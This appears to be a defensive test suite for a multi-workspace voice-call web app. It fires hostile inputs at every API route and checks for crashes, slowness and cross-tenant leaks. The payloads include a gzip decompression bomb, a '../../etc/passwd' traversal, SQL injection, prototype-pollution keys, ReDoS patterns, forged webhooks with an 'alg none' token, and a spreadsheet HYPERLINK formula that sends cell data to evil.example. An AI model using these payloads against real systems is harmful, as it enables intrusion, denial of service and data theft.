/**
 * The attack suite, against the real stack (PostgreSQL, a Temporal dev server, the express app; the
 * two workspaces of test/support/two-workspaces.ts). Every route of the OpenAPI document is called
 * signed out, as another workspace's owner, and as each role of the workspace, with generated
 * hostile inputs: oversized, deeply nested and gzip-compressed bodies, wrong types, unicode digits
 * and control characters in every field, hostile path parameters and queries; then catastrophic
 * templates and patterns, and forged webhooks. It asserts no 500 (and no other 5xx except where a
 * service this test does not run is named), no answer slower than 1 s, and that nothing of
 * workspace A is read or changed by anyone outside it. It prints its counts.
 */
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { after, before, test } from 'node:test';
import { mountedRoutes } from '../test/support/routes';
import {
  a,
  app,
  base,
  bodyFor,
  builderA,
  concrete,
  database,
  markersOfA,
  ownerA,
  ownerB,
  snapshotA,
  startTwoWorkspaces,
  stopTwoWorkspaces,
  viewerA,
} from '../test/support/two-workspaces';
import { eq } from 'drizzle-orm';
import { salesSupportSample } from '@switchboard/flow-model';
import { calls, DEFAULT_WORKSPACE_ID, phoneTriggers } from '../db/schema';
import { MAX_JSON_DEPTH } from './json-limits';
import { csvCell } from './routes/call-history';

const SLOWEST_MS = 1000;
const telnyxKeys = generateKeyPairSync('ed25519');

before(async () => {
  // Webhooks are verified (a Telnyx public key, LiveKit API credentials), so forgeries meet the real checks.
  process.env.TELNYX_PUBLIC_KEY = telnyxKeys.publicKey.export({ format: 'der', type: 'spki' }).subarray(-32).toString('base64');
  await startTwoWorkspaces('attack', { liveKit: { url: 'http://127.0.0.1:9', apiKey: 'attack-key', apiSecret: 'attack-secret-attack-secret-attack-secret' } });
});
after(async () => {
  console.log(`attack suite totals: ${counts.requests} requests, ${routeCount} routes, ${ROLES.length} roles (${ROLES.join(', ')}), ${counts.hostileInputs.size} kinds of hostile input; slowest answer ${Math.round(counts.slowest.ms)} ms`);
  await stopTwoWorkspaces();
});
const ROLES = ['signed out', 'owner B', 'viewer A', 'builder A', 'owner A'];
let routeCount = 0;

/**
 * 5xx answers a route may give here because this test runs no such service: the reason is named,
 * and the answer must still be the route's own clear refusal (JSON with an error code), not a 500.
 */
const UNAVAILABLE_HERE: Record<string, string> = {
  'POST /api/flows/:flowId/test-calls': 'no LiveKit for browsers',
  'POST /api/flows/:flowId/test-runs': 'no test-run worker',
  'POST /api/flows/:flowId/what-if': 'no test-run worker (what-if replays run on it)',
  'POST /api/prompts/preview': 'no media worker',
  'GET /api/telnyx/numbers': 'Telnyx is a closed port',
  'POST /api/telnyx/test-connection': 'Telnyx is a closed port',
  'GET /api/telnyx/connections': 'Telnyx is a closed port',
  'POST /api/phone-triggers/:id/provision': 'LiveKit is a closed port',
  'DELETE /api/phone-triggers/:id': 'LiveKit is a closed port',
  'POST /api/phone-triggers': 'Telnyx is a closed port (number checks of workspace B)',
  'PUT /api/phone-triggers/:id': 'Telnyx is a closed port (number checks of workspace B)',
};

interface Outcome {
  status: number;
  text: string;
  ms: number;
}
const counts = { requests: 0, hostileInputs: new Set<string>(), slowest: { ms: 0, what: '' } };
const problems: string[] = [];

async function send(method: string, path: string, headers: Record<string, string>, body?: Buffer | string): Promise<Outcome> {
  const started = performance.now();
  const response = await fetch(`${base}${path}`, { method, headers, ...(body === undefined || method === 'GET' || method === 'HEAD' ? {} : { body }) });
  const text = await response.text();
  const ms = performance.now() - started;
  counts.requests++;
  return { status: response.status, text, ms };
}

/**
 * Sends a request and checks the answer. A slow answer is sent again and only counts when it is
 * slow every time: a catastrophic input is slow every time, a busy machine's pause is not.
 */
async function probe(route: string, input: string, who: string, method: string, path: string, headers: Record<string, string>, body?: Buffer | string): Promise<Outcome> {
  const outcome = await timed(method, path, headers, body);
  check(route, input, who, outcome);
  return outcome;
}

/** The request's answer; a slow one is sent again (up to twice) and counts as slow only if slow every time. */
async function timed(method: string, path: string, headers: Record<string, string>, body?: Buffer | string): Promise<Outcome> {
  let outcome = await send(method, path, headers, body);
  for (let retry = 0; retry < 2 && outcome.ms > SLOWEST_MS; retry++) outcome = await send(method, path, headers, body);
  return outcome;
}

/** Checks an answer against the suite's rules; problems are collected, so one run shows them all. */
function check(route: string, input: string, who: string, outcome: Outcome) {
  const what = `${route} ${input} as ${who}`;
  if (outcome.ms > counts.slowest.ms) counts.slowest = { ms: outcome.ms, what };
  if (outcome.ms > SLOWEST_MS) problems.push(`${what}: answered in ${Math.round(outcome.ms)} ms`);
  if (outcome.status >= 500) {
    const allowed = UNAVAILABLE_HERE[route] !== undefined && outcome.status !== 500 && /"code":"\w+"/.test(outcome.text);
    if (!allowed) problems.push(`${what}: ${outcome.status} ${outcome.text.slice(0, 200)}`);
  }
  if (who !== 'owner A' && who !== 'builder A' && who !== 'viewer A') {
    for (const marker of markersOfA()) {
      if (input.includes(marker)) continue;
      if (outcome.text.includes(marker)) problems.push(`${what}: answered A's ${marker}`);
    }
  }
}

/** About 30 KB that inflates to 30 MB (the decompression bomb of issue 16, High 1). */
const GZIP_BOMB = gzipSync(Buffer.from(`{"payloads":[],"x":"${'0'.repeat(30 * 1024 * 1024)}"}`));
const CONTROL = 'a\u0000b\u0007c\u001b[31md\r\ne\u2028f\u202eg\ud800';
const UNICODE_DIGITS = '+１４１５５５５०१२३٠١٢';

/** Every string in a value replaced by `replacement`. */
function replaceStrings(value: unknown, replacement: string): unknown {
  if (typeof value === 'string') return replacement;
  if (Array.isArray(value)) return value.map((item) => replaceStrings(item, replacement));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, replaceStrings(item, replacement)]));
  return value;
}

/** Hostile JSON bodies for a route, from its well-formed body. */
function hostileBodies(good: unknown): Array<{ name: string; body: Buffer | string; headers: Record<string, string> }> {
  const json = { 'content-type': 'application/json' };
  const nested = `${'['.repeat(5000)}${']'.repeat(5000)}`;
  const bodies: Array<{ name: string; body: Buffer | string; headers: Record<string, string> }> = [
    { name: 'oversized (2 MB)', body: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }), headers: json },
    { name: 'deeply nested (5,000)', body: `{"name":"x","graph":${nested},"settings":{"a":${nested}}}`, headers: json },
    { name: 'nested just past the limit', body: JSON.stringify({ name: 'x', settings: JSON.parse(`${'{"a":'.repeat(MAX_JSON_DEPTH + 1)}1${'}'.repeat(MAX_JSON_DEPTH + 1)}`) }), headers: json },
    { name: 'not JSON', body: '{"name": "x",', headers: json },
    { name: 'top-level array', body: '[1,2,3]', headers: json },
    { name: 'top-level string', body: '"hello"', headers: json },
    { name: 'top-level null', body: 'null', headers: json },
    { name: 'gzip-compressed', body: gzipSync(JSON.stringify(good ?? {})), headers: { ...json, 'content-encoding': 'gzip' } },
    { name: 'gzip bomb (30 MB inflated)', body: GZIP_BOMB, headers: { ...json, 'content-encoding': 'gzip' } },
    { name: 'wrong content type', body: JSON.stringify(good ?? {}), headers: { 'content-type': 'text/plain' } },
    { name: 'unicode digits in every string', body: JSON.stringify(replaceStrings(good ?? {}, UNICODE_DIGITS)), headers: json },
    { name: 'control characters in every string', body: JSON.stringify(replaceStrings(good ?? {}, CONTROL)), headers: json },
    { name: 'long strings (100,000) in every string', body: JSON.stringify(replaceStrings(good ?? {}, 'x'.repeat(100_000))), headers: json },
    { name: 'prototype keys', body: '{"__proto__":{"role":"owner"},"constructor":{"prototype":{"x":1}},"name":"p"}', headers: json },
  ];
  if (good && typeof good === 'object' && !Buffer.isBuffer(good) && !Array.isArray(good)) {
    for (const key of Object.keys(good)) {
      for (const [kind, wrong] of [['null', null], ['number', 12345], ['array', [1, 'a']], ['object', { x: 1 }], ['huge number', 1e308], ['string', '12']] as const) {
        bodies.push({ name: `${key} as ${kind}`, body: JSON.stringify({ ...good, [key]: wrong }), headers: json });
      }
    }
  }
  return bodies;
}

/** Hostile variants of a concrete path: its parameters and query. */
function hostilePaths(route: { path: string }, path: string): Array<{ name: string; path: string }> {
  const variants: Array<{ name: string; path: string }> = [{ name: 'hostile query', path: `${path}${path.includes('?') ? '&' : '?'}limit=%EF%BC%91%EF%BC%92&offset=-1&from=%00&to=9999-99-99&status=%27%3B--&number=${encodeURIComponent(UNICODE_DIGITS)}&before=1e400&after=NaN&flowId[]=1` }];
  if (!/:\w+/.test(route.path)) return variants;
  for (const [name, value] of [
    ['long parameter', 'x'.repeat(5000)],
    ['unicode-digit parameter', '١٢٣'],
    ['NUL parameter', '\u0000'],
    ['traversal parameter', '../../etc/passwd'],
    ['SQL parameter', "' or 1=1 --"],
  ] as const) {
    variants.push({ name, path: route.path.replace(/:\w+/g, encodeURIComponent(value)) });
  }
  return variants;
}

test('attack suite: every documented route, every role and outsider, hostile inputs: no 500, nothing slow, nothing of A leaks or changes', async (t) => {
  problems.length = 0;
  const spec = JSON.parse(readFileSync(new URL('../docs/openapi.json', import.meta.url), 'utf8')) as { paths: Record<string, Record<string, unknown>> };
  const documented = Object.entries(spec.paths).flatMap(([path, methods]) => Object.keys(methods).map((method) => ({ method: method.toUpperCase(), path: path.replace(/\{(\w+)\}/g, ':$1') })));
  const mounted = new Set(mountedRoutes(app).map((route) => `${route.method} ${route.path}`));
  routeCount = documented.length;
  for (const route of documented) assert.ok(mounted.has(`${route.method} ${route.path}`), `${route.method} ${route.path} is documented and mounted`);

  const strangers: Record<string, Record<string, string>> = {
    'signed out': {},
    'owner B': ownerB.headers,
    'viewer A': viewerA.headers,
  };
  const members: Record<string, Record<string, string>> = { 'builder A': builderA.headers, 'owner A': ownerA.headers };
  const before = await snapshotA();

  // Built once, sent by everyone.
  const inputsOf = new Map(documented.map((route) => {
    const good = bodyFor(route);
    return [route, route.method === 'GET' || route.method === 'DELETE' ? [] : hostileBodies(Buffer.isBuffer(good) ? {} : good)];
  }));
  const run = async (who: string, headers: Record<string, string>) => {
    for (const route of documented) {
      const name = `${route.method} ${route.path}`;
      const path = concrete(route);
      const good = bodyFor(route);
      const inputs = inputsOf.get(route)!;
      for (const input of inputs) {
        counts.hostileInputs.add(`body: ${input.name}`);
        await probe(name, input.name, who, route.method, path, { ...headers, ...input.headers }, input.body);
      }
      for (const variant of hostilePaths(route, path)) {
        counts.hostileInputs.add(`path: ${variant.name}`);
        const body = route.method === 'GET' || route.method === 'DELETE' || good === undefined ? undefined : Buffer.isBuffer(good) ? good : JSON.stringify(good);
        await probe(name, variant.name, who, route.method, variant.path, { ...headers, ...(body === undefined ? {} : { 'content-type': Buffer.isBuffer(good) ? 'audio/wav' : 'application/json' }) }, body);
      }
    }
  };
  for (const [who, headers] of Object.entries(strangers)) await run(who, headers);
  assert.equal(await snapshotA(), before, "nothing of workspace A changed after the hostile requests of strangers, B and A's viewer");
  for (const [who, headers] of Object.entries(members)) await run(who, headers);

  t.diagnostic(`requests: ${counts.requests}`);
  t.diagnostic(`routes: ${documented.length}`);
  t.diagnostic(`roles: ${Object.keys(strangers).length + Object.keys(members).length} (${[...Object.keys(strangers), ...Object.keys(members)].join(', ')})`);
  t.diagnostic(`hostile inputs: ${counts.hostileInputs.size} kinds`);
  t.diagnostic(`slowest answer: ${Math.round(counts.slowest.ms)} ms (${counts.slowest.what})`);
  assert.deepEqual(problems, []);
});

test('a decompression bomb is refused without being inflated: 401 before sign-in, 415 after', async () => {
  const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' };
  for (const path of ['/api/temporal-codec/decode', '/api/flows', '/api/auth/sign-in']) {
    const stranger = await timed('POST', path, { ...headers, 'x-requested-with': 'switchboard' }, GZIP_BOMB);
    assert.ok(stranger.ms < SLOWEST_MS, `${path}: ${Math.round(stranger.ms)} ms`);
    assert.equal(stranger.status, path === '/api/auth/sign-in' ? 415 : 401, `${path}: ${stranger.text}`);
  }
  const member = await send('POST', '/api/temporal-codec/decode', { ...headers, ...builderA.headers }, GZIP_BOMB);
  assert.equal(member.status, 415, member.text);
  assert.match(member.text, /must be sent uncompressed/);
  // Before sign-in only a few kilobytes are read: a large body to sign-in is refused as too large.
  const large = await send('POST', '/api/auth/sign-in', { 'content-type': 'application/json', 'x-requested-with': 'switchboard' }, JSON.stringify({ email: 'x@y.z', password: 'p'.repeat(100_000) }));
  assert.equal(large.status, 413, large.text);
});

test('catastrophic templates and patterns: saved, validated and read back in time, or refused with a reason', async () => {
  problems.length = 0;
  const as = { ...builderA.headers, 'content-type': 'application/json' };
  const created = JSON.parse((await send('POST', '/api/flows', as, JSON.stringify({ name: 'Templates under attack' }))).text) as { id: string };
  const evilTemplates = [`{{${' '.repeat(1900)}}`, `{{${' '.repeat(1900)}`, '{{'.repeat(950), `{{ a${'.a'.repeat(900)}!}}`];
  const graph = (text: string, pattern: string) => ({
    start: 'greet',
    nodes: [
      { id: 'greet', type: 'greet', config: { text } },
      { id: 'check', type: 'branch', config: { conditions: [{ id: 'hit', variable: 'call.caller', operator: 'matches', value: pattern }] } },
      { id: 'bye', type: 'hangup', config: {} },
    ],
    edges: [
      { from: 'greet', exit: 'next', to: 'check' },
      { from: 'check', exit: 'hit', to: 'bye' },
      { from: 'check', exit: 'else', to: 'bye' },
    ],
  });
  for (const template of evilTemplates) {
    for (const pattern of ['(a+)+$', '(a|aa)*c', '(x+x+)+y']) {
      const body = JSON.stringify({ graph: graph(template, pattern) });
      for (const [method, path] of [['PUT', `/api/flows/${created.id}/draft`], ['POST', '/api/flows/validate'], ['GET', `/api/flows/${created.id}`]] as const) {
        const outcome = await timed(method, path, as, body);
        check(`${method} ${path}`, 'catastrophic template', 'builder A', outcome);
        assert.ok(outcome.status < 300, `${method} ${path}: ${outcome.status} ${outcome.text.slice(0, 200)}`);
        assert.ok(outcome.ms < SLOWEST_MS, `${method} ${path} took ${Math.round(outcome.ms)} ms`);
      }
      counts.hostileInputs.add('catastrophic template and pattern');
    }
  }
  // Problems are reported, not run: unsupported patterns, over-long text, a whole draft too large.
  const refused = JSON.parse((await send('POST', '/api/flows/validate', as, JSON.stringify({ graph: graph('x'.repeat(900_000 / 2), '(a)\\1') }))).text) as { ok: boolean; problems: Array<{ message: string }> };
  assert.equal(refused.ok, false);
  assert.ok(refused.problems.some((problem) => /Keep it under 2000 characters/.test(problem.message)), JSON.stringify(refused.problems));
  assert.ok(refused.problems.some((problem) => /RE2 syntax/.test(problem.message)), JSON.stringify(refused.problems));
  const tooLarge = await send('PUT', `/api/flows/${created.id}/draft`, as, JSON.stringify({ graph: graph('x'.repeat(600_000), 'a') }));
  assert.equal(tooLarge.status, 400);
  assert.match(tooLarge.text, /The flow is too large/);
  assert.deepEqual(problems, []);
});

test('webhook forgeries: unsigned, wrongly signed, replayed-and-altered, compressed and oversized webhooks are refused with a 4xx', async () => {
  const event = JSON.stringify({ data: { id: 'forged-1', event_type: 'call.initiated', occurred_at: new Date().toISOString(), payload: { call_control_id: 'cc', call_session_id: 'cs', to: a.phoneNumber, from: a.callerNumber } } });
  const now = String(Math.floor(Date.now() / 1000));
  const forgeries: Array<[string, string, Record<string, string>, string | Buffer]> = [
    ['/api/telnyx/webhooks', 'unsigned', { 'content-type': 'application/json' }, event],
    ['/api/telnyx/webhooks', 'wrong signature', { 'content-type': 'application/json', 'telnyx-signature-ed25519': Buffer.alloc(64, 7).toString('base64'), 'telnyx-timestamp': now }, event],
    ['/api/telnyx/webhooks', 'stale timestamp', { 'content-type': 'application/json', 'telnyx-signature-ed25519': Buffer.alloc(64, 7).toString('base64'), 'telnyx-timestamp': '1' }, event],
    ['/api/telnyx/webhooks', 'signature of garbage', { 'content-type': 'application/json', 'telnyx-signature-ed25519': '!!!', 'telnyx-timestamp': now }, event],
    ['/api/telnyx/webhooks', 'gzip-compressed', { 'content-type': 'application/json', 'content-encoding': 'gzip' }, gzipSync(event)],
    ['/api/telnyx/webhooks', 'oversized', { 'content-type': 'application/json' }, 'x'.repeat(2 * 1024 * 1024)],
    ['/api/livekit/webhooks', 'unsigned', { 'content-type': 'application/webhook+json' }, '{"event":"participant_joined"}'],
    ['/api/livekit/webhooks', 'alg none token', { 'content-type': 'application/webhook+json', authorization: `${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"iss":"attack-key","sha256":"x"}').toString('base64url')}.` }, '{"event":"participant_joined"}'],
    ['/api/livekit/webhooks', 'token of another key', { 'content-type': 'application/webhook+json', authorization: 'eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJvdGhlciJ9.c2lnbmF0dXJl' }, '{"event":"participant_joined"}'],
    ['/api/livekit/webhooks', 'gzip-compressed', { 'content-type': 'application/webhook+json', 'content-encoding': 'gzip' }, GZIP_BOMB],
  ];
  problems.length = 0;
  const callsBefore = await snapshotA();
  for (const [path, name, headers, body] of forgeries) {
    counts.hostileInputs.add(`webhook: ${name}`);
    const outcome = await probe(`POST ${path}`, `forgery: ${name}`, 'signed out', 'POST', path, headers, body);
    assert.ok(outcome.status >= 400 && outcome.status < 500, `${path} ${name}: ${outcome.status} ${outcome.text.slice(0, 200)}`);
  }
  assert.equal(await snapshotA(), callsBefore, 'no forged webhook started or changed a call');
  assert.deepEqual(problems, []);
});

test("a test call or run of a draft cannot play another workspace's audio (ids are checked, not only at publish)", async () => {
  const as = { ...ownerB.headers, 'content-type': 'application/json' };
  const graph = { start: 'music', nodes: [{ id: 'music', type: 'play', config: { assetId: a.assetId } }, { id: 'bye', type: 'hangup', config: {} }], edges: [{ from: 'music', exit: 'next', to: 'bye' }] };
  const flow = JSON.parse((await send('POST', '/api/flows', as, JSON.stringify({ name: 'B plays A', graph }))).text) as { id: string };
  for (const path of [`/api/flows/${flow.id}/test-calls`, `/api/flows/${flow.id}/test-runs`]) {
    const outcome = await send('POST', path, as, '{}');
    assert.equal(outcome.status, 422, outcome.text);
    assert.match(outcome.text, /"code":"unknownAsset"/);
  }
});

test('CSV exports neutralise formulas: a flow named =HYPERLINK(…) is text in the spreadsheet', async () => {
  const as = { ...ownerA.headers, 'content-type': 'application/json' };
  const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
  const flow = JSON.parse((await send('POST', '/api/flows', as, JSON.stringify({ name }))).text) as { id: string };
  await database.db.insert(calls).values({ id: 'call-formula-1', workspaceId: DEFAULT_WORKSPACE_ID, flowId: flow.id, roomName: 'room-formula', workflowId: 'call-call-formula-1', callerNumber: '+14155550111', status: 'completed', endedAt: new Date() });
  const csv = (await send('GET', '/api/call-history/export.csv', ownerA.headers)).text;
  const line = csv.split('\n').find((row) => row.startsWith('call-formula-1'));
  assert.ok(line, csv.slice(0, 300));
  assert.ok(line.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`), line);
  assert.ok(line.includes(',+14155550111,'), 'plain numbers are left as they are');
  for (const [cell, expected] of [['@SUM(A1)', "'@SUM(A1)"], ['-2+3', "'-2+3"], ['\tx', "'\tx"], ['-12.5', '-12.5'], ['plain', 'plain']] as const) assert.equal(csvCell(cell), expected);
});

test('private network access: builders cannot switch the guard off, owners can (audited), a deployment can forbid it', async () => {
  const patch = (headers: Record<string, string>, allow: boolean) => send('PATCH', '/api/workspace', { ...headers, 'content-type': 'application/json' }, JSON.stringify({ settings: { allowPrivateNetwork: allow } }));
  const byBuilder = await patch(builderA.headers, true);
  assert.equal(byBuilder.status, 403, byBuilder.text);
  assert.match(byBuilder.text, /Only owners may change settings.allowPrivateNetwork/);
  assert.equal((await patch(builderA.headers, false)).status, 200, 'sending the setting unchanged is no change');
  process.env.SWITCHBOARD_PRIVATE_NETWORK = 'never';
  try {
    const forbidden = await patch(ownerA.headers, true);
    assert.equal(forbidden.status, 409, forbidden.text);
    assert.match(forbidden.text, /forbiddenByDeployment/);
  } finally {
    delete process.env.SWITCHBOARD_PRIVATE_NETWORK;
  }
  assert.equal((await patch(ownerA.headers, true)).status, 200);
  assert.equal((await patch(ownerA.headers, false)).status, 200);
  const log = JSON.parse((await send('GET', '/api/audit-log', ownerA.headers)).text) as { entries: Array<{ action: string; details: { allowed?: boolean } }> };
  assert.deepEqual(log.entries.filter((entry) => entry.action === 'workspace.privateNetwork').map((entry) => entry.details.allowed), [false, true], 'both changes audited, newest first');
});

test("numbers and Telnyx keys are scoped: another workspace cannot claim a number its own Telnyx account lacks, nor use the deployment's key", async () => {
  const claim = await send('POST', '/api/phone-triggers', { ...ownerB.headers, 'content-type': 'application/json' }, JSON.stringify({ phoneNumber: '+14155550155', flowId: '00000000-0000-4000-8000-000000000000' }));
  assert.equal(claim.status, 400, 'first the flow must be B’s own');
  const flow = JSON.parse((await send('POST', '/api/flows', { ...ownerB.headers, 'content-type': 'application/json' }, JSON.stringify({ name: 'B numbers' }))).text) as { id: string };
  const refused = await send('POST', '/api/phone-triggers', { ...ownerB.headers, 'content-type': 'application/json' }, JSON.stringify({ phoneNumber: '+14155550155', flowId: flow.id }));
  assert.equal(refused.status, 403, refused.text);
  assert.match(refused.text, /numberNotVerified/);
  process.env.TELNYX_API_KEY = 'KEYDEPLOYMENT-0000000000';
  try {
    const ofB = JSON.parse((await send('GET', '/api/telnyx/credentials', ownerB.headers)).text) as { apiKey: { set: boolean } };
    assert.equal(ofB.apiKey.set, false, "the deployment's key is not B's");
    const ofA = JSON.parse((await send('GET', '/api/telnyx/credentials', ownerA.headers)).text) as { apiKey: { set: boolean } };
    assert.equal(ofA.apiKey.set, true);
  } finally {
    delete process.env.TELNYX_API_KEY;
  }
});

test("call ids and rooms are the installation's: another workspace cannot start a call under an id or in a room A's call has, nor learn of that call", async () => {
  const json = { ...ownerB.headers, 'content-type': 'application/json' };
  const flow = JSON.parse((await send('POST', '/api/flows', json, JSON.stringify({ name: 'B calls', graph: salesSupportSample.graph }))).text) as { id: string };
  const published = await send('POST', `/api/flows/${flow.id}/versions`, json, '{}');
  assert.equal(published.status, 201, published.text);
  // B's own number (set up directly: claiming one through the API needs B's Telnyx account).
  const bNumber = '+14155550177';
  await database.db.insert(phoneTriggers).values({ workspaceId: ownerB.workspaceId, phoneNumber: bNumber, flowId: flow.id });
  const before = await database.db.select().from(calls).where(eq(calls.id, a.callId));
  const [aCall] = await database.db.select({ roomName: calls.roomName }).from(calls).where(eq(calls.id, a.callId));
  // A's id, A's id as a room name, and A's room under an id of B's own (B's worker would join A's caller).
  for (const body of [{ callId: a.callId, roomName: 'b-room' }, { roomName: a.callId }, { callId: 'b-into-a-room', roomName: aCall!.roomName }]) {
    const taken = await send('POST', '/api/calls', json, JSON.stringify({ ...body, calledNumber: bNumber, callerNumber: '+14155550100' }));
    assert.equal(taken.status, 409, taken.text);
    assert.match(taken.text, /callIdTaken/);
    assert.ok(!taken.text.includes(`call-${a.callId}`) && !taken.text.includes(a.callerNumber), taken.text);
  }
  assert.deepEqual(await database.db.select().from(calls).where(eq(calls.id, a.callId)), before, "A's call is unchanged");
  // B's own id works, and B's duplicate start is still a harmless repeat.
  const own = JSON.parse((await send('POST', '/api/calls', json, JSON.stringify({ callId: 'b-own-call', roomName: 'b-own-room', calledNumber: bNumber }))).text) as { callId: string; started: boolean };
  assert.deepEqual([own.callId, own.started], ['b-own-call', true]);
  const again = JSON.parse((await send('POST', '/api/calls', json, JSON.stringify({ callId: 'b-own-call', roomName: 'b-own-room', calledNumber: bNumber }))).text) as { started: boolean };
  assert.equal(again.started, false);
});
